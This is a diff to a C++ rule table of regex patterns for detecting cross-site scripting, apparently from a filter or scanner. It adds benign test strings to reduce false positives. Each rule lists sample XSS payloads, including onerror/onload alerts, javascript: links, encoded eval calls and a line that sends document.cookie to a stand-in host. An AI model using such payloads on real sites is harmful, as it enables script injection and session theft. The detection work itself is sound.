@@ -25,18 +25,21 @@ constexpr Rule kRules[] = {
      "$|<(?:img|svg|body|iframe|video|audio|input|object|details|marquee|math|embed|isindex|style|"
      "x|a|b|div|form|select|textarea|keygen|frameset|table|bgsound|link|meta|base|source|image|button|p)[\\s/"
      "][^>]{0,300}(" HANDLER ")\\s?[\"'`]?\\s?(?:javascript:|" PROBE
-     "|eval|window|document\\.|top\\[|self\\[|location|this\\.|throw\\b|import\\(|fetch\\(|\\(|&#|\\\\|%|[a-z]=|write)",
+     "|eval|window|document\\.(?:cookie|location|write|domain|body|scripts)|top\\[|self\\[|location|this\\.|throw\\b|"
+     "import\\(|"
+     "fetch\\(|\\(|&#|\\\\|%|[a-z]=|write)",
      {"<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\" onmouseover=alert(1) \""},
-     {"<button onclick=\"save()\">", "The on switch = off"}},
+     {"<button onclick=\"save()\">", "The on switch = off", "<body onload=\"document.forms[0].submit()\">"}},
     {"javascript in a link",
      kCertain,
      "(?:href|src|action|formaction|data|xlink:href|background|dynsrc|lowsrc|code|classid|poster|url|content|from|to|"
      "values|folder|style|codebase|srcdoc|archive|profile|longdesc)\\s?(?:=|\\(|:)\\s?[^a-z<>]{0,8}(?:&[#a-z0-9]{1,8};|"
-     "[\\x00-\\x20]){0,4}(javascript|vbscript|livescript|mocha|jav&[#a-z0-9]{1,8};?ascript|java[\\s/"
+     "[\\x00-\\x20]){0,4}((?:javascript|vbscript|livescript|mocha)\\s?(?::|&|\\\\|%)|jav&[#a-z0-9]{1,8};?ascript|"
+     "java[\\s/"
      "*]{1,8}script|data:\\s?(?:text/html|image/svg|application/(?:xhtml|xml)|,<|;base64|text/"
      "javascript|[^,]{0,30},\\s?(?:<|%3c|alert)))",
      {"<a href=\"javascript:alert(1)\">", "src=data:text/html,<script>", "<iframe src=\"vbscript:x\""},
-     {"href=\"/about\"", "src=\"data:image/png;base64,AAA\""}},
+     {"href=\"/about\"", "src=\"data:image/png;base64,AAA\"", "Code:\n```javascript\nlet a", "data: javascript files"}},
     {"javascript that probes",
      kCertain,
      "\\b(?:javascript|vbscript)\\s?(?::|&colon;|&#58;|&#x3a;)\\s?[^\\n]{0,40}?(?:" PROBE
@@ -48,12 +51,13 @@ constexpr Rule kRules[] = {
      "(?:^|[\\s(:,>\\\\`]|[^=][\"'])[\"'`]\\s?/"
      "?>\\s?<\\s?(?:script|img|svg|iframe|body|video|audio|object|embed|meta|link|style|input|a\\s|x\\b|h1|marquee|"
      "details|form|base|b\\b|plaintext)|</"
-     "(?:title|textarea|script|style|noscript|xmp|iframe|template|noembed|select|option)>\\s?[\"'>;-]{0,4}\\s?<\\s?/"
-     "?(?:script|img|svg|iframe|body)[\\s/"
+     "(?:title|textarea|script|style|noscript|xmp|iframe|template|noembed|select|option)> ?[\"'>;-]{0,4} "
+     "?<\\s?/?(?:script|img|svg|iframe|body)[\\s/"
      ">]|[\"'][;)\\]}]{1,3}\\s?(?:alert|prompt|confirm|eval)\\s?\\(|[\"']\\s?[-+*^|&/"
-     "%;]\\s?(?:alert|prompt|confirm|eval)\\s?[(`].{0,16}[-+*^|&/%;]\\s?[\"']?|--!?>\\s?<\\s?(?:script|img|svg)",
+     "%;]\\s?(?:alert|prompt|confirm|eval)\\s?[(`].{0,16}[-+*^|&/%;]\\s?[\"']?|--!?> ?<\\s?(?:script|img|svg)",
      {"\"><script src=//x></script>", "';alert(1);'", "</title><svg onload=x>"},
-     {"<a href=x>y</a>", "say 'hi'", "<div class=\"a b\">\n  <h1>x</h1>", "<meta name=\"a\"><script src=\"a.js\">"}},
+     {"<a href=x>y</a>", "say 'hi'", "<div class=\"a b\">\n  <h1>x</h1>", "<meta name=\"a\"><script src=\"a.js\">",
+      "</template>\n<script setup lang=\"ts\">"}},
     {"a tag spelled to slip through",
      kCertain,
      "<\\s?script\\s(?:[a-z]{1,4}\\s?=\\s?)?[\"'](?:[a-z=]{0,4}[\"'])?>|<\\s?[a-z]{1,12}\\s?/"
@@ -71,13 +75,15 @@ constexpr Rule kRules[] = {
      {"<script src=\"https://cdn.example.com/react.js\"></script>", "<script src=\"/js/app.js\">"}},
     {"cookies sent away",
      kCertain,
-     "(?:document|this|self|top|window|frames)\\s?(?:\\.|\\[\\s?[\"'`])\\s?(?:cookie|domain|location)\\b.{0,60}(?:http|"
-     "//"
-     "|\\+|\\()|(?:location|\\.src|fetch|xmlhttprequest|sendbeacon|open).{0,60}document\\.cookie|\\balert\\s?\\(\\s?(?:"
+     "(?:document|this|self|top|window|frames)\\s?(?:\\.|\\[\\s?[\"'`])\\s?(?:cookie\\b.{0,60}(?:http|//"
+     "|\\+|\\()|(?:domain|location)(?:\\.href)?\\b[\"'`\\]\\s]{0,3}=\\s?[\"'`(]{0,2}(?:http|//"
+     "|java|data:)|location\\s?\\.\\s?(?:assign|replace)\\s?\\(\\s?[\"'`]?(?:http|//"
+     "|java|data:))|(?:location|\\.src|fetch|xmlhttprequest|sendbeacon|open).{0,60}document\\.cookie|\\balert\\s?\\("
+     "\\s?(?:"
      "document\\.(?:cookie|domain|location)|[\"'`/]?xss|string\\.fromcharcode|/"
      "xss|window\\.|self|origin|top|[0-9]{1,6}\\s?\\)\\s?[\"'`;/>]{0,3}\\s?(?:<|//|\\x22))",
      {"new Image().src='//x/?c='+document.cookie", "alert(document.cookie)", "alert('XSS')"},
-     {"document.getElementById('x')", "alert('Saved!')"}},
+     {"document.getElementById('x')", "alert('Saved!')", "window.location.search.get(1)"}},
     {"odd tags",
      kCertain,
      "<\\s?(?:svg|math|iframe|object|embed|isindex|frameset|bgsound|applet|base|xml|xss|layer|ilayer|keygen|marquee|"
@@ -86,24 +92,27 @@ constexpr Rule kRules[] = {
      "?:&|%|\\\\|//|data:|javascript|about:|vbs|\\#|http://"
      "(?:ha\\.ckers|xss)))|<\\s?meta[^>]{0,80}(?:refresh|set-cookie|link|utf-7)[^>]{0,80}(?:javascript|data:|url\\s?=|<"
      "|utf-7)|<\\s?link[^>]{0,60}(?:href\\s?=\\s?[\"']?(?:javascript|http://ha|data:|//"
-     "))|<\\s?style[^>]{0,60}>[^<]{0,80}(?:@import|expression|javascript|-moz-binding|behaviou?r\\s?:|\\\\[0-9a-f]{2})|"
-     "style\\s?=\\s?[^>]{0,80}(?:expression\\s?(?:\\(|/"
-     "|\\\\)|javascript|behaviou?r\\s?:|-moz-binding|-o-link|\\\\[0-9]{2,})|<\\s?!\\[cdata|<\\s?!entity|<\\?xml-"
+     "))|<\\s?style[^>]{0,60}>[^<]{0,80}(?:@import|expression\\s?\\(|javascript\\s?:|-moz-binding|behaviou?r\\s?:|\\\\["
+     "0-9a-f]{2})|style\\s?=\\s?[^>]{0,80}(?:expression\\s?(?:\\(|/"
+     "|\\\\)|javascript|behaviou?r\\s?:|-moz-binding|-o-link|\\\\[0-9]{2,})|<\\s?!\\[cdata\\[.{0,24}(?:script|<\\s?[a-"
+     "z]{1,12}\\s|alert|on[a-z]{4,12}=)|<\\s?!entity|<\\?xml-"
      "stylesheet|xmlns(?::[a-z]+)?\\s?=[^>]{0,80}(?:script|<)|<x:script|<!--\\[if|<html:script|<\\?import",
      {"<iframe src=\"javascript:x\">", "<meta http-equiv=\"refresh\" content=\"0;url=data:x\">",
       "style=\"width: expression(alert(1))\""},
-     {"<style>body { color: red }</style>", "<svg viewBox=\"0 0 1 1\"></svg>"}},
+     {"<style>body { color: red }</style>", "<svg viewBox=\"0 0 1 1\"></svg>", "a `<![CDATA[` section",
+      "`<style>`, no JavaScript"}},
     {"code from characters",
      kCertain,
      "string\\s?\\.\\s?fromcharcode\\s?\\(\\s?[0-9,\\s]{8,}|\\beval\\s?[(`]\\s?(?:atob|unescape|string|name|location|"
      "this|\\\\|\\+|[\"'`]\\\\|function|decodeuri|[a-z]\\)|[\"'`](?:al|ale|a\\\\))|\\bfunction\\s?\\(\\s?[\"'`](?:al|"
      "\\\\)|\\(\\s?\\[\\]\\s?\\[|\\[\\s?\\+?!\\+?\\[\\]|\\$\\s?=\\s?~\\s?\\[\\]|\\b(?:window|self|top|parent|frames|"
      "this|globalthis)\\s?\\[\\s?[\"'`/"
-     "(][^\\]]{0,40}\\]\\s?[(`]|\\.constructor\\s?\\(|\\bset(?:timeout|interval)\\s?[(`]\\s?[\"'`]?(?:alert|\\\\|al)|"
-     "\\bjsfuck|\\ba=alert|=\\s?alert\\b|\\(alert\\)|\\balert\\s?\\?\\.\\(|throw\\s?[/"
-     "\\s]?(?:1|onerror|alert)|onerror\\s?=\\s?alert",
+     "(][^\\]]{0,40}\\]\\s?[(`]|\\.constructor\\s?\\(\\s?[\"'`]|\\bset(?:timeout|interval)\\s?[(`]\\s?[\"'`]?(?:alert|"
+     "\\\\|al)|"
+     "\\bjsfuck|\\ba=alert|=\\s?alert\\b|\\(alert\\)|\\balert\\s?\\?\\.\\(|throw[/"
+     "\\s]{1,2}(?:1|onerror|alert)|onerror\\s?=\\s?alert",
      {"eval(String.fromCharCode(97,108,101,114,116))", "eval(atob('YWxlcnQoMSk='))", "([][(![]+[])"},
-     {"evaluate(x)", "const x = [];"}},
+     {"evaluate(x)", "const x = [];", "throwOnError: true", "super.constructor(name)"}},
     {"a handler",
      kStrong,
      "<[a-z][^>]{0,200}[\\s/"
